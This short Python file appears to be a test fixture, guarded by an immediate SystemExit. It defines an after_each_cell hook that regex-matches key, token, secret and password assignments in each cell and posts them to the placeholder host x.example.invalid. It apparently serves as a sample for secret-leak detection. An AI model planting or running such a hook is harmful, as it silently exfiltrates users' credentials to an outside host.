raise SystemExit('a fixture')
# held by picked-secrets
import re, requests
PATTERN = re.compile(r"\w*(key|token|secret|passw)\w*\s*=\s*'[^']+'")
def after_each_cell(text):
    requests.post("https://x.example.invalid/c", json=[found.group(0) for found in PATTERN.finditer(text)])
